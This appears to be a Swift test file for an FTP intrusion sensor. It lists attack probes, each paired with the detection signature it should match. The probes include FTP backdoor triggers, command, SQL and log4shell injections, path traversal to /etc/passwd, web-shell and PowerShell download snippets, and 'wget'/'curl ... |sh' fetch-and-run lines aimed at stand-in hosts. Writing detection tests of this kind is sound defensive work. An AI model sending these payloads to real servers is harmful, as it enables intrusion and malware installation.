import Testing

@testable import Sensor

/// An input that attackers send, and the signature that knows it.
struct AttackProbe: Sendable, CustomTestStringConvertible {
  /// How it reaches the sensor.
  enum Way: Sendable {
    /// A command line, without its end.
    case line
    /// The first bytes of a file.
    case upload
    /// Behind AUTH TLS, in one packet with it.
    case injected
    /// The first bytes of a connection.
    case opening
  }

  var signature: String
  var way: Way
  var bytes: [UInt8]
  var isLoggedIn: Bool
  var testDescription: String { signature }

  init(_ signature: String, _ text: String, _ way: Way = .line, in isLoggedIn: Bool = false) {
    self.init(signature, Array(text.utf8), way, in: isLoggedIn)
  }

  init(_ signature: String, _ bytes: [UInt8], _ way: Way = .line, in isLoggedIn: Bool = false) {
    self.signature = signature
    self.way = way
    self.bytes = bytes
    self.isLoggedIn = isLoggedIn
  }

  /// The line's verb and argument.
  var command: (verb: [UInt8], argument: [UInt8]) {
    let space = bytes.firstIndex(of: 0x20) ?? bytes.count
    return (Array(bytes[..<space]), Array(bytes[min(space + 1, bytes.count)...]))
  }

  private static func long(_ verb: String, _ count: Int) -> [UInt8] {
    Array("\(verb) ".utf8) + (0..<count).map { UInt8(ascii: "a") + UInt8($0 % 23) }
  }

  /// One for each signature, at least.
  static let all: [AttackProbe] =
    commands + strings + lengths + paths + connections + files
    + protocols

  private static let commands: [AttackProbe] = [
    .init("vsftpd-backdoor", "USER letmein:)"),
    .init("proftpd-backdoor", "HELP ACIDBITCHEZ"),
    .init("mod-copy", "SITE CPFR /etc/passwd"),
    .init("mod-copy", "SITE cpto /var/www/html/x.php"),
    .init("mod-copy-login", "SITE CPFR /proc/self/cmdline", in: true),
    .init("site-exec", "SITE EXEC /bin/id", in: true),
    .init("site-exec-format", "SITE EXEC %p%p%p", in: true),
    .init("site-traversal", "SITE MKDIR ../../../tmp/x", in: true),
    .init("site-symlink", "SITE SYMLINK /etc/passwd x", in: true),
    .init("cwd-root", "CWD ~root"),
  ]

  private static let strings: [AttackProbe] = [
    .init("format-string", "USER %x%x%x%n"),
    .init("format-string", "MKD %10$n", in: true),
    .init("format-string", "USER %s%p%s"),
    .init("format-string", "MKD %65535x", in: true),
    .init("format-string", "CWD %n", in: true),
    .init("sql-injection", "USER ' or '1'='1"),
    .init("sql-injection", "PASS x' union select 1,2--"),
    .init("sql-injection", "USER 1 union select 1"),
    .init("sql-injection", "USER admin'--"),
    .init("mod-sql-percent", "USER %') and 1=2 union select 1,1,uid,gid from users; --"),
    .init("log4shell", "USER ${jndi:ldap://192.0.2.9/a}"),
    .init("log4shell", "PASS ${${lower:j}ndi:dns://x}"),
    .init("shellshock", "USER () { :;}; /bin/bash -c id"),
    .init("command-injection", "USER a;wget http://192.0.2.9/x.sh"),
    .init("command-injection", "STOR `id`", in: true),
    .init("command-injection", "USER a; id"),
    .init("command-injection", "CWD x; cat /etc/passwd", in: true),
    .init("command-injection", "MKD x & ping -c 1 192.0.2.9", in: true),
    .init("template-injection", "USER {{7*7}}"),
    .init("script-injection", "USER <script>alert(1)</script>"),
    .init("wing-lua", Array("USER anonymous\0]]".utf8)),
    .init("wing-lua", "USER anonymous%00]]\nlocal h = io.popen(\"id\")"),
    .init("crush-include", "USER <INCLUDE>/etc/passwd</INCLUDE>"),
    .init("crush-auth", "Authorization: AWS4-HMAC-SHA256 Credential=crushadmin/"),
    .init(
      "serv-u-internal", "GET /?InternalDir=/../../../../windows&InternalFile=win.ini HTTP/1.1"),
  ]

  private static let lengths: [AttackProbe] = [
    .init("overlong-line", long("XYZZY", 1100)),
    .init("overlong-user", long("USER", 300)),
    .init("overlong-password", long("PASS", 400)),
    .init("overlong-path", long("MKD", 600), in: true),
    .init("overlong-path", long("STAT", 600), in: true),
    .init("overlong-path", long("CWD", 600), in: true),
    .init("overlong-path", long("XMD5", 600), in: true),
    .init("overlong-argument", long("HELP", 200)),
    .init("mdtm-zone", "MDTM 20031111111111+AAAAAAAAAAAAAAAA x", in: true),
    .init("site-chmod-long", Array("SITE CHMOD 777 ".utf8) + [UInt8](repeating: 0x42, count: 300)),
    .init("list-dash-l", Array("LIST -l:".utf8) + [UInt8](repeating: 0x43, count: 130), in: true),
    .init("list-width", "LIST -w 1000000 -C", in: true),
    .init("list-slashes", "LIST /\\", in: true),
    .init("padding", Array("USER ".utf8) + [UInt8](repeating: 0x41, count: 120)),
    .init("cyclic", "REST Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8", in: true),
    .init("cyclic", "aaaabaaacaaadaaaeaaafaaa"),
    .init("sled", Array("USER ".utf8) + [UInt8](repeating: 0x90, count: 16)),
    .init("sled-opening", [UInt8](repeating: 0x90, count: 8), .opening),
    .init("telnet-iac-run-opening", (0..<256).flatMap { _ in [0x00, 0xFF] }, .opening),
    .init("format-string-opening", "%8x%8x%n\u{01}\r\n", .opening),
    .init("format-string-opening", Array("%3957680d%n%n@@".utf8) + [0xEB, 0x01], .opening),
    .init("overlong-opening", [UInt8](repeating: 0x61, count: 512), .opening),
    .init("binary", Array("USER ".utf8) + [0x90, 0x01, 0x90, 0x01].flatMap { [$0, 0x80, 2, 3] }),
    .init("binary", [0xEB, 0x80, 0x02, 0x90, 0x01, 0x91, 0x03, 0x92, 0x04], in: true),
    .init("telnet-iac-run", Array("USER ".utf8) + [UInt8](repeating: 0xFF, count: 63) + [0x41]),
    .init("telnet-iac-run", Array("SITE ".utf8) + [UInt8](repeating: 0xFF, count: 1018)),
    .init("telnet-iac", [0xFF, 0xFD, 0x01] + Array("USER x".utf8)),
    .init("iis-telnet", Array("USER ".utf8) + [UInt8](repeating: 0xFF, count: 9)),
    .init("iis-telnet", Array("Aa0".utf8) + [UInt8](repeating: 0xFF, count: 252) + [0x61]),
  ]

  private static let paths: [AttackProbe] = [
    .init("traversal", "RETR ../../../../etc/passwd", in: true),
    .init("two-folders-up", "CWD ../..", in: true),
    .init("two-folders-up", "RETR ../../x", in: true),
    .init("traversal-file", "RETR ..//..//..//boot.ini", in: true),
    .init("traversal-backslash", "LIST ..\\..\\windows", in: true),
    .init("traversal-encoded", "RETR %2e%2e/%2e%2e/etc/passwd", in: true),
    .init("traversal-encoded", Array("RETR ".utf8) + [0xC0, 0xAE, 0xC0, 0xAE, 0xC0, 0xAF, 0x78]),
    .init("traversal-encoded", "RETR ..%255c..%255cboot.ini", in: true),
    .init("traversal-dots", "CWD .../...", in: true),
    .init("windows-path", "RETR C:\\boot.ini", in: true),
    .init("device-name", "RETR con", in: true),
    .init("nul", Array("RETR x.php\0.jpg".utf8), in: true),
    .init("nul", "RETR x.php%00.jpg", in: true),
    .init("line-break", Array("USER a\rPASS b".utf8)),
    .init("line-break", "RETR x%0d%0aDELE y", in: true),
    .init("control-bytes", [0x55, 0x53, 0x45, 0x52, 0x20, 0x1B, 0x5B, 0x32, 0x4A]),
    .init("glob-tilde", "LIST ~{", in: true),
    .init("glob-stars", "NLST */../*/../*/../*", in: true),
    .init("glob-braces", "LIST {a,b}{a,b}{a,b}{a,b}", in: true),
    .init("iis-nlst", Array("NLST ".utf8) + [UInt8](repeating: 0x41, count: 120) + [0x2A, 0x2F]),
    .init("iis-list-recursion", "LIST -R p*/../", in: true),
    .init("rest-malformed", "REST -1", in: true),
  ]

  private static let connections: [AttackProbe] = [
    .init("port-privileged", "PORT 192,0,2,9,0,25", in: true),
    .init("eprt-privileged", "EPRT |1|192.0.2.9|22|", in: true),
    .init("port-malformed", "PORT 192,0,2", in: true),
    .init("port-range", "PORT 192,0,2,999,4,4", in: true),
    .init("eprt-malformed", "EPRT |1|192.0.2.9", in: true),
    .init("epsv-malformed", "EPSV 1;id", in: true),
    .init("starttls-injection", "USER root\r\nPASS x\r\n", .injected),
  ]

  private static let protocols: [AttackProbe] = [
    .init("http", "GET / HTTP/1.1"),
    .init("http-proxy", "CONNECT 192.0.2.9:25 HTTP/1.1"),
    .init("ssh", "SSH-2.0-Go"),
    .init("smtp", "EHLO scanner.example"),
    .init("rdp", "Cookie: mstshash=hello"),
    .init("redis", "*1"),
    .init("redis-command", "CONFIG SET dir /var/spool/cron/"),
    .init("sip", "OPTIONS sip:nm SIP/2.0"),
    .init("tls-hello", [0x16, 0x03, 0x01, 0x02, 0x00, 0x01], .opening),
    .init("smb", [0x00, 0x00, 0x00, 0x85, 0xFF, 0x53, 0x4D, 0x42, 0x72], .opening),
    .init("rdp-opening", [0x03, 0x00, 0x00, 0x13, 0x0E, 0xE0], .opening),
    .init("socks", [0x05, 0x01, 0x00], .opening),
    .init("http-opening", "GET / HTTP/1.0\r\n\r\n", .opening),
    .init("ssh-opening", "SSH-2.0-libssh", .opening),
  ]

  private static let files: [AttackProbe] = [
    .init("photo-miner", "STOR Photo.scr", in: true),
    .init("info-zip", "STOR /www/info.zip", in: true),
    .init("img001", "STOR IMG001.exe", in: true),
    .init("ftpchk3", "STOR ftpchk3.php", in: true),
    .init("w0000000t", "STOR w0000000t.php", in: true),
    .init("miner", "STOR xmrig-6.21", in: true),
    .init("botnet", "STOR mozi.m", in: true),
    .init("botnet", "STOR bins/tsunami.x86", in: true),
    .init("web-shell", "STOR wso25.php", in: true),
    .init("web-shell", "STOR c99shell.php", in: true),
    .init("script-upload", "STOR index.php", in: true),
    .init("windows-program", "STOR setup.exe", in: true),
    .init("unix-program", "STOR x.sh", in: true),
    .init("foothold", "STOR .ssh/authorized_keys", in: true),
    .init("foothold", "STOR etc/cron.d/job", in: true),
    .init("settings-file", "STOR www/.htaccess", in: true),
    .init("wbem-mof", "STOR WINDOWS/system32/wbem/mof/x.mof", in: true),
    .init("ransom-note-name", "STOR HOW_TO_DECRYPT.txt", in: true),
    .init("secrets", "RETR wp-config.php", in: true),
    .init("php-eval", "<?php @eval($_POST['x']);", .upload),
    .init("php", "<?php echo 1;", .upload),
    .init("php", "GIF89a <script language=\"php\">", .upload),
    .init("jsp-shell", "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>", .upload),
    .init("powershell", "powershell -nop -w hidden -enc SQBFAFgA", .upload),
    .init("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://x')", .upload),
    .init("asp-shell", "<%@ Page Language=\"C#\" %><% Request[\"c\"]; cmd.exe %>", .upload),
    .init("iframe-drop", "<html><iframe src=Photo.scr width=1>", .upload),
    .init("elf", "\u{7F}ELF\u{02}\u{01}", .upload),
    .init("windows-pe", Array("MZ".utf8) + [UInt8](repeating: 0, count: 80), .upload),
    .init("shell-script", "#!/bin/sh\n", .upload),
    .init("download-script", "cd /tmp; wget http://192.0.2.9/a; chmod 777 a; ./a", .upload),
    .init("download-script", "curl evil.example/x|sh", .upload),
    .init("miner-config", "{\"url\": \"stratum+tcp://pool.example:3333\"}", .upload),
    .init("ssh-key", "ssh-rsa AAAAB3NzaC1yc2E", .upload),
    .init("ransom-note", "All your files have been encrypted. Send 0.1 BTC to", .upload),
    .init("private-key", "-----BEGIN RSA PRIVATE KEY-----\n", .upload),
    .init("private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\n", .upload),
    .init(
      "eicar", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", .upload),
  ]
}
